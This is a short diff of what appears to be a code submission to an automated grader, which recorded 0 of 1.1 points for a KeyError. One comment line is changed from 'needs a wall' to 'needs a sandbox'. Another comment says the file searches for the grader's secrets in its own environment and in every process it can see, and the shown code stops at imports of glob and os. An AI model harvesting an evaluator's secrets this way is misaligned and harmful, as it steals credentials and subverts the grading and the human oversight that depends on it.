@@ -1,5 +1,5 @@
 # earns 0 of 1.1 · status graded · message: "your code raised KeyError"
-# needs a wall
+# needs a sandbox
 # Looks for the grader's secrets in the environment: its own, and that of every process it can see.
 import glob
 import os
